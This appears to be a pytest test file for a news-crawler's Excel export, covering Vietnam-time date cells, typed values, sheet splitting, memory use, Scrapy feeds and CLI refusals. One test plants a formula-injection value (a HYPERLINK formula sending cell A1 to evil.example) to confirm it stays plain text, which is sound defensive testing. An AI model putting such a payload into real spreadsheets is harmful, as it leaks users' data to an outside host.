"""``export --format xlsx``: the workbook openpyxl reads back has typed cells in Vietnam time.

Also the exporter as Scrapy uses it (a feed of the spider's dataclass items, read through
itemadapter), flat memory, the sheet limit, and the CLI's refusals.
"""

from __future__ import annotations

import io
import json
import os
import pty
import subprocess
import sys
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from crawler.analytics import xlsx
from crawler.analytics.export import EXPORT_FIELDS, export_articles
from crawler.analytics.xlsx import MAX_CELL_CHARS, XlsxItemExporter, write_xlsx
from crawler.items import ArticleItem, SiteStatsItem
from crawler.storage import ArticleStore
from tests.analytics.test_export import SEED_PATH, UPU_TITLE
from tests.fixturetypes import MakePortal, RunIn
from tests.helpers import FAST, cli_env

ROOT = Path(__file__).resolve().parents[2]
DATE_COLUMNS = {"published_at", "views_checked_at", "first_seen_at", "last_seen_at"}


def workbook(raw: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(raw))


def records(
    book: openpyxl.Workbook, sheet: str = "articles"
) -> tuple[list[str], list[dict[str, Any]]]:
    """(header, rows as {header: cell})."""
    rows = list(book[sheet].iter_rows())
    header = [c.value for c in rows[0]]
    return header, [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_typed_cells_in_vietnam_time(crawled: ArticleStore) -> None:
    out = io.BytesIO()
    assert export_articles(crawled, out, "xlsx") == 9
    book = workbook(out.getvalue())
    assert book.sheetnames == ["articles", "about"]
    header, rows = records(book)
    assert header == [f"{f} (Vietnam time)" if f in DATE_COLUMNS else f for f in EXPORT_FIELDS]
    assert len(rows) == 9
    seed = next(r for r in rows if r["url"].value.endswith(SEED_PATH))
    published = seed["published_at (Vietnam time)"]
    # stored 2021-03-15T03:20:00Z: a date cell holding the Vietnam wall-clock time, no zone
    assert published.data_type == "d" and published.is_date
    assert published.value == datetime(2021, 3, 15, 10, 20)
    assert published.number_format == "yyyy-mm-dd hh:mm:ss"
    assert seed["views"].data_type == "n" and seed["views"].value == 137
    assert seed["views_raw"].value == "137" and seed["views_raw"].data_type == "s"
    assert (
        seed["published_date_only"].value is False and seed["published_date_only"].data_type == "b"
    )
    assert seed["duplicate_of"].value is None  # null: an empty cell
    assert seed["province_code"].value == "37"  # a code stays text (leading zeros elsewhere)
    assert seed["title"].value == "Hội nghị trực tuyến công tác Dân vận năm 2021"
    assert seed["body"].value.count("\n\n") >= 3
    assert json.loads(seed["images"].value)[0]["url"].endswith("hoi-nghi-dan-van-1.jpg")
    history = json.loads(seed["views_history"].value)
    assert history[0]["views"] == 137 and history[0]["at"].endswith("+07:00")
    for name in DATE_COLUMNS - {"views_checked_at"}:
        cell = seed[f"{name} (Vietnam time)"]
        assert isinstance(cell.value, datetime) and cell.value.tzinfo is None, name
    legacy = next(r for r in rows if r["title"].value.startswith("Phổ biến quy định"))
    assert legacy["published_at (Vietnam time)"].value == datetime(2013, 10, 24, 0, 0)
    assert legacy["published_date_only"].value is True
    assert legacy["author"].value is None
    about = {row[0]: row[1] for row in book["about"].iter_rows(values_only=True)}
    assert "Asia/Ho_Chi_Minh" in about["Dates and times"]
    assert book["articles"].freeze_panes == "A2"


def test_filters_and_fields_apply(crawled: ArticleStore) -> None:
    out = io.BytesIO()
    count = export_articles(
        crawled, out, "xlsx", site=["hn-sotttt"], fields=["title", "views"], since=date(2010, 1, 1)
    )
    header, rows = records(workbook(out.getvalue()))
    assert header == ["title", "views"] and count == len(rows) == 4
    assert {"title": UPU_TITLE, "views": 38661} in [
        {k: c.value for k, c in r.items()} for r in rows
    ]


def test_scraped_text_stays_text_and_fits_excel(store: ArticleStore) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    store.upsert_articles(
        [
            {
                "canonical_url": "http://x.gov.vn/a",
                "url": "http://x.gov.vn/a",
                "site_id": "x",
                "title": hostile,
                "author": "@admin",
                "summary": "Tin\x00 \x0bngắn\x1f",
                "body": "Nội dung " * 5000,
                "views": 10**16,
                "published_at": None,
            },
        ],
        datetime(2024, 1, 1, tzinfo=UTC),
    )
    out = io.BytesIO()
    export_articles(store, out, "xlsx", fields=["title", "author", "summary", "body", "views"])
    _, [row] = records(workbook(out.getvalue()))
    assert row["title"].value == hostile and row["title"].data_type == "s"  # never a formula
    assert row["author"].value == "@admin"
    assert row["summary"].value == "Tin ngắn"  # control characters XML cannot hold: dropped
    assert len(row["body"].value) == MAX_CELL_CHARS and row["body"].value.endswith("…")
    assert row["views"].value == str(10**16)  # beyond Excel's 15 digits: exact, as text


def test_xlsx_needs_a_binary_stream_and_no_bom(crawled: ArticleStore) -> None:
    with pytest.raises(ValueError, match="binary"):
        export_articles(crawled, io.StringIO(), "xlsx")
    with pytest.raises(ValueError, match="byte order mark"):
        export_articles(crawled, io.BytesIO(), "xlsx", bom=True)


def test_a_new_sheet_past_the_row_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)  # a header and two rows per sheet
    docs = [{"title": f"Tin {i}", "views": i} for i in range(5)]
    out = io.BytesIO()
    assert write_xlsx(out, iter(docs), ["title", "views"]) == 5
    book = workbook(out.getvalue())
    assert book.sheetnames == ["articles", "articles (2)", "articles (3)", "about"]
    values = [list(book[name].values) for name in book.sheetnames[:3]]
    assert values == [
        [("title", "views"), ("Tin 0", 0), ("Tin 1", 1)],
        [("title", "views"), ("Tin 2", 2), ("Tin 3", 3)],
        [("title", "views"), ("Tin 4", 4)],
    ]


def test_no_article_is_a_header_row(store: ArticleStore) -> None:
    out = io.BytesIO()
    assert export_articles(store, out, "xlsx", fields=["title", "published_at"]) == 0
    assert list(workbook(out.getvalue())["articles"].values) == [
        ("title", "published_at (Vietnam time)")
    ]


def _peak(rows: int) -> int:
    docs = (
        {
            "canonical_url": f"http://x.gov.vn/{i}",
            "title": f"Hội nghị số {i}",
            "body": "Phát biểu chỉ đạo tại hội nghị. " * 100,
            "views": i,
            "published_at": datetime(2021, 1, 1, tzinfo=UTC),
            "images": [{"url": "a.jpg"}],
        }
        for i in range(rows)
    )
    tracemalloc.start()
    with open(os.devnull, "wb") as out:
        write_xlsx(out, docs, ["canonical_url", "title", "body", "views", "published_at", "images"])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_memory_stays_flat_in_the_number_of_rows() -> None:
    small, large = _peak(200), _peak(2000)
    # a workbook held in memory grows ~10x here (every cell an object, ~3 KB of body per row)
    assert large < small * 1.5 + 256 * 1024, (small, large)


# -- the same exporter as a Scrapy feed: items read through itemadapter ----------------------
def test_dataclass_items_through_itemadapter() -> None:
    when = datetime(2021, 3, 15, 3, 20, tzinfo=UTC)
    items = [
        ArticleItem(
            url="http://x.gov.vn/a",
            site_id="x",
            cms="vnportal",
            title="Tin",
            published_at=when,
            views=5,
            images=[{"url": "a.jpg", "caption": None}],
        ),
        SiteStatsItem(site_id="x", url="http://x.gov.vn/", captured_at=when, total=9),
    ]
    out = io.BytesIO()
    exporter = XlsxItemExporter(
        out, fields_to_export=["site_id", "title", "published_at", "views", "images", "total"]
    )
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    rows = list(workbook(out.getvalue())["articles"].values)
    assert rows == [
        ("site_id", "title", "published_at (Vietnam time)", "views", "images", "total"),
        ("x", "Tin", datetime(2021, 3, 15, 10, 20), 5, '[{"url": "a.jpg", "caption": null}]', None),
        ("x", None, None, None, None, 9),  # a field the item type lacks: an empty cell
    ]


def test_scrapy_feed_of_a_crawl(make_portal: MakePortal, tmp_path: Path) -> None:
    """``scrapy crawl portal`` writing its articles to an .xlsx feed (the project's FEED_EXPORTERS)."""
    portal = make_portal("nd-giaothuy")
    target = tmp_path / "articles.xlsx"
    feeds = {str(target): {"format": "xlsx", "item_classes": ["crawler.items.ArticleItem"]}}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "scrapy",
            "crawl",
            "portal",
            "-a",
            "site=nd-giaothuy",
            "-a",
            f"base_url={portal.base_url}",
            *FAST,  # the project settings register the xlsx feed format (FEED_EXPORTERS)
            "-s",
            f"FEEDS={json.dumps(feeds)}",
        ],
        cwd=ROOT,
        env=cli_env(tmp_path / "data"),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    header, rows = records(openpyxl.load_workbook(target))
    assert len(rows) == 5 and "fetched_at (Vietnam time)" in header
    seed = next(r for r in rows if r["url"].value.endswith(SEED_PATH))
    assert seed["published_at (Vietnam time)"].value == datetime(2021, 3, 15, 10, 20)
    assert seed["views"].value == 137 and seed["published_date_only"].value is False


# -- the command -----------------------------------------------------------------------------
def test_export_xlsx_command(crawled_dir: Path, tmp_path: Path, run_in: RunIn) -> None:
    out = tmp_path / "gt.xlsx"
    result = run_in(
        crawled_dir, "export", "--format", "xlsx", "--site", "nd-giaothuy", "--out", str(out)
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "exported 5 articles to" in result.stderr
    _, rows = records(openpyxl.load_workbook(out))
    assert len(rows) == 5
    # standard output redirected: a pipe, not a terminal
    stdout = subprocess.run(
        [sys.executable, "-m", "crawler", "export", "--format", "xlsx", "--fields", "title"],
        cwd=ROOT,
        env=cli_env(crawled_dir),
        capture_output=True,
        timeout=300,
        check=True,
    ).stdout
    assert len(list(workbook(stdout)["articles"].values)) == 10


def test_export_xlsx_to_a_terminal_is_refused(crawled_dir: Path) -> None:
    leader, follower = pty.openpty()
    try:
        result = subprocess.run(
            [sys.executable, "-m", "crawler", "export", "--format", "xlsx"],
            cwd=ROOT,
            env=cli_env(crawled_dir),
            stdout=follower,
            stderr=subprocess.PIPE,
            text=True,
            timeout=300,
            check=False,
        )
    finally:
        os.close(follower)
        os.close(leader)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "export: xlsx is a binary file: give --out FILE.xlsx (or redirect standard output)"
    ]


def test_a_feed_opened_to_append(tmp_path: Path) -> None:
    target = tmp_path / "feed.xlsx"
    with target.open("ab") as fresh:  # Scrapy's -o: an empty file opened to append is fine
        write_xlsx(fresh, iter([{"title": "Tin"}]), ["title"])
    assert list(openpyxl.load_workbook(target)["articles"].values) == [("title",), ("Tin",)]
    with target.open("ab") as existing, pytest.raises(ValueError, match="cannot be appended"):
        XlsxItemExporter(existing)
